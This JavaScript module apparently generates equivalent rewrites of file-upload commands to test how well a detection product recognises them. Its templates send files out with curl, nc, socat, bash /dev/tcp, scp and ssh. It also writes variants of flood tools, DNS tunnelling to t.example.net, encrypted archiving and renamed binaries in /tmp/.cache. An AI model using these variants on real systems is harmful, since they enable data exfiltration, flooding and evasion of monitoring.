// Equal forms of one transfer: what else sends this file to this place. Written by hand from the tools' manuals, not through the product's
// own grammar of transfer tools, so that what the grammar does not know is measured and not left out.

/** The transfer in a shell command: the part that names tool, file and place. Null where none of the forms below is equal to it. */
export function transferOf(command) {
  const web =
    /(?:\S*\/)?(?:curl|busybox wget|wget)\b[^|;&]*?(?:-\w*T |--upload-file |-d |--data-binary |-F \w+=|--post-file=)@?(\S+)[^|;&]*?(\b(https?|ftp):\/\/[^\s;|&]+)/.exec(
      command,
    );
  if (web) {
    const [segment, file, url, scheme] = web;
    if (file.startsWith("'")) return null;
    const trimmed = segment.trimEnd();
    return { segment: trimmed, file, url, kind: scheme === 'ftp' ? 'ftp' : 'http', ...placeOf(url) };
  }
  const raw = /cat (\S+) > \/dev\/tcp\/([\w.-]+)\/(\d+)/.exec(command);
  if (raw)
    return { segment: raw[0], file: raw[1], kind: 'raw', url: null, host: raw[2], port: Number(raw[3]) };
  const busybox = /ftpput (\S+) (\S+) (\S+)/.exec(command);
  if (busybox)
    return {
      segment: busybox[0],
      file: busybox[3],
      kind: 'ftp',
      url: `ftp://${busybox[1]}/${busybox[2]}`,
      host: busybox[1],
      port: 21,
    };
  const ssh = /echo 'put (\S+) \S+' \| sftp .*? \w+@([\w.-]+)/.exec(command);
  if (ssh) return { segment: ssh[0], file: ssh[1], kind: 'ssh', url: null, host: ssh[2], port: 22 };
  return null;
}

function placeOf(url) {
  const { hostname, port, protocol } = new URL(url.replaceAll('$', ''));
  return { host: hostname, port: Number(port || { 'http:': 80, 'https:': 443, 'ftp:': 21 }[protocol]) };
}

const python = (code) => ({ text: `python3 -c '${code}'`, argv: ['python3', '-c', code] });
const plain = (text) => ({ text, argv: text.split(' ') });
/** The transfer stands in a pipe or reads standard input: only forms that can do so are equal. */
const needsFile = ({ file }) => file !== '-';

/** Each: name, the kinds of transfer it equals, and the command as typed with the program that is started. */
export const FORMS = [
  form('curl, long options', ['http', 'ftp'], ({ file, url }) =>
    plain(`curl --silent --upload-file ${file} ${url}`),
  ),
  form('curl, place before file', ['http', 'ftp'], ({ file, url }) => plain(`curl ${url} -sS -T ${file}`)),
  form('curl, options run together', ['http', 'ftp'], ({ file, url }) => plain(`curl -sSfkT${file} ${url}`)),
  form('curl --data-binary', ['http'], ({ file, url }) => plain(`curl -s --data-binary @${file} ${url}`)),
  form('curl, method and data apart', ['http'], ({ file, url }) =>
    plain(`curl -XPUT -H Expect: -d@${file} --url ${url}`),
  ),
  form('curl, form', ['http'], ({ file, url }) => plain(`curl -s --form f=@${file} ${url}`)),
  form('curl, options in a file', ['http', 'ftp'], () => plain('curl -K /tmp/.c')),
  form('curl, place without scheme', ['http'], ({ file, url }) =>
    plain(`curl -sT ${file} ${url.replace(/^\w+:\/\//, '')}`),
  ),
  form(
    'wget --post-file',
    ['http'],
    ({ file, url }) => plain(`wget -qO- --post-file ${file} ${url}`),
    needsFile,
  ),
  form(
    'wget --body-file',
    ['http'],
    ({ file, url }) => plain(`wget -q --method=PUT --body-file=${file} ${url}`),
    needsFile,
  ),
  form(
    'busybox wget',
    ['http'],
    ({ file, url }) => plain(`busybox wget -q --post-file ${file} ${url}`),
    needsFile,
  ),
  form('python, urllib', ['http'], ({ file, url }) =>
    python(
      `import urllib.request as u;u.urlopen(u.Request("${url}",data=open("${file === '-' ? '/dev/stdin' : file}","rb").read(),method="PUT"))`,
    ),
  ),
  form(
    'httpie',
    ['http'],
    ({ file, url }) => ({ text: `http PUT ${url} < ${file}`, argv: ['http', 'PUT', url] }),
    needsFile,
  ),
  form('python, socket', ['raw'], ({ file, host, port }) =>
    python(`import socket;s=socket.create_connection(("${host}",${port}));s.sendfile(open("${file}","rb"))`),
  ),
  form('python, ftplib', ['ftp'], ({ file, host }) =>
    python(`from ftplib import FTP;f=FTP("${host}");f.login();f.storbinary("STOR x",open("${file}","rb"))`),
  ),
  form('node', ['http', 'raw'], ({ file, host, port }) => {
    const code = `require("fs").createReadStream("${file === '-' ? '/dev/stdin' : file}").pipe(require("http").request({host:"${host}",port:${port},method:"PUT"}))`;
    return { text: `node -e '${code}'`, argv: ['node', '-e', code] };
  }),
  form(
    'nc',
    ['raw', 'http'],
    ({ file, host, port }) => ({ text: `nc ${host} ${port} < ${file}`, argv: ['nc', host, String(port)] }),
    needsFile,
  ),
  form('busybox nc', ['raw'], ({ file, host, port }) => ({
    text: `busybox nc ${host} ${port} < ${file}`,
    argv: ['busybox', 'nc', host, String(port)],
  })),
  form('socat', ['raw', 'http'], ({ file, host, port }) => plain(`socat -u ${file} TCP:${host}:${port}`)),
  form(
    'bash, no program',
    ['raw', 'http'],
    ({ file, host, port }) => ({
      text: `bash -c 'cat ${file} > /dev/tcp/${host}/${port}'`,
      argv: ['cat', file],
    }),
    needsFile,
  ),
  form(
    'openssl s_client',
    ['raw', 'http'],
    ({ file, host, port }) => ({
      text: `openssl s_client -quiet -connect ${host}:${port} < ${file}`,
      argv: ['openssl', 's_client', '-quiet', '-connect', `${host}:${port}`],
    }),
    needsFile,
  ),
  form('ftpput', ['ftp'], ({ file, host }) => plain(`ftpput -u a -p b ${host} x ${file}`)),
  form('busybox ftpput', ['ftp'], ({ file, host }) => plain(`busybox ftpput ${host} x ${file}`)),
  form('lftp', ['ftp'], ({ file, host }) => ({
    text: `lftp -e 'put ${file}; bye' ${host}`,
    argv: ['lftp', '-e', `put ${file}; bye`, host],
  })),
  form('scp', ['ssh'], ({ file, host }) => plain(`scp -q -i /keys/id ${file} root@${host}:x`)),
  form('scp, port and options', ['ssh'], ({ file, host }) =>
    plain(`scp -o BatchMode=yes -P 22 -C ${file} ${host}:/tmp/x`),
  ),
  form('rsync', ['ssh'], ({ file, host }) => plain(`rsync -az ${file} ${host}:x`)),
  form('cat into ssh', ['ssh'], ({ file, host }) => ({
    text: `cat ${file} | ssh ${host} 'cat > x'`,
    argv: ['ssh', host, 'cat > x'],
  })),
  form('tar into ssh', ['ssh'], ({ file, host }) => ({
    text: `tar cz ${file} | ssh -o BatchMode=yes ${host} 'tar xz'`,
    argv: ['ssh', '-o', 'BatchMode=yes', host, 'tar xz'],
  })),
];

function form(name, kinds, write, when = () => true) {
  return { name, write, fits: (transfer) => kinds.includes(transfer.kind) && when(transfer) };
}

const MANY_REQUESTS = /^wrk .*?(https?:\/\/\S+)$/;
const PINGS = /^hping3 (?=.*(?:--icmp|-1)).*?(\d+(?:\.\d+){3})(?: \|\| true)?$/;
const DNS_CLIENT = /^node -e .*dgram/;
const PACKING = /^zip -r -P x (\S+)\.zip (\S+)$/;

/** What else floods, pings, asks or packs so: `of` knows the command, `write` gives the other one. */
export const PROGRAMS = [
  ['ab', MANY_REQUESTS, ([, url]) => `ab -k -t 120 -c 4 ${url}`],
  ['hey', MANY_REQUESTS, ([, url]) => `hey -z 120s -c 4 -q 5 ${url}`],
  ['siege', MANY_REQUESTS, ([, url]) => `siege -b -c 4 -t 120S ${url}`],
  ['h2load', MANY_REQUESTS, ([, url]) => `h2load --h1 -n 2400 -c 4 ${url}`],
  ['oha', MANY_REQUESTS, ([, url]) => `oha -z 120s -c 4 ${url}`],
  ['bombardier', MANY_REQUESTS, ([, url]) => `bombardier -c 4 -d 120s ${url}`],
  ['wrk, other spelling', MANY_REQUESTS, ([, url]) => `wrk --duration 2m --connections 4 --threads 1 ${url}`],
  ['a copy of wrk', MANY_REQUESTS, ([, url]) => `/tmp/.cache/upd -t4 -c4 -d120s ${url}`],
  ['ping', PINGS, ([, host]) => `ping -f -q -s 1400 -c 900 ${host}`],
  ['ping of busybox', PINGS, ([, host]) => `busybox ping -q -s 1400 -c 900 ${host}`],
  ['fping', PINGS, ([, host]) => `fping -q -b 1400 -c 900 -p 20 ${host}`],
  ['nping', PINGS, ([, host]) => `nping --icmp --rate 50 -c 900 --data-length 1400 ${host}`],
  ['hping3, other spelling', PINGS, ([, host]) => `hping3 ${host} --icmp --interval u20000 --count 900`],
  ['python, raw socket', PINGS, () => 'python3 /tmp/p.py'],
  ['a copy of hping3', PINGS, ([, host]) => `/tmp/.cache/upd --icmp -i u20000 -c 900 ${host}`],
  ['python, questions', DNS_CLIENT, () => 'python3 /tmp/q.py'],
  ['node, questions from a file', DNS_CLIENT, () => 'node /tmp/q.js'],
  ['iodine', DNS_CLIENT, () => 'iodine -f -r -P x t.example.net'],
  ['dnscat', DNS_CLIENT, () => 'dnscat --dns domain=t.example.net'],
  ['dig in a loop', DNS_CLIENT, () => 'dig +short -f /tmp/names'],
  ['tar', PACKING, ([, target, place]) => `tar cf ${target}.tar ${place}`],
  ['tar, compressed', PACKING, ([, target, place]) => `tar --create --gzip --file=${target}.tgz ${place}`],
  ['tar of busybox', PACKING, ([, target, place]) => `busybox tar -czf ${target}.tgz ${place}`],
  ['7z', PACKING, ([, target, place]) => `7z a -px ${target}.7z ${place}`],
  [
    'zip, other spelling',
    PACKING,
    ([, target, place]) => `zip --encrypt --recurse-paths ${target}.zip ${place}`,
  ],
  [
    'tar and openssl',
    PACKING,
    ([, target, place]) => `tar c ${place} | openssl enc -aes-256-cbc -k x -out ${target}`,
  ],
  ['python, zipfile', PACKING, ([, target, place]) => `python3 -m zipfile -c ${target}.zip ${place}`],
  ['a copy of zip', PACKING, ([, target, place]) => `/tmp/.cache/upd -r -P x ${target}.zip ${place}`],
].map(([name, of, write]) => ({ name, of, write }));
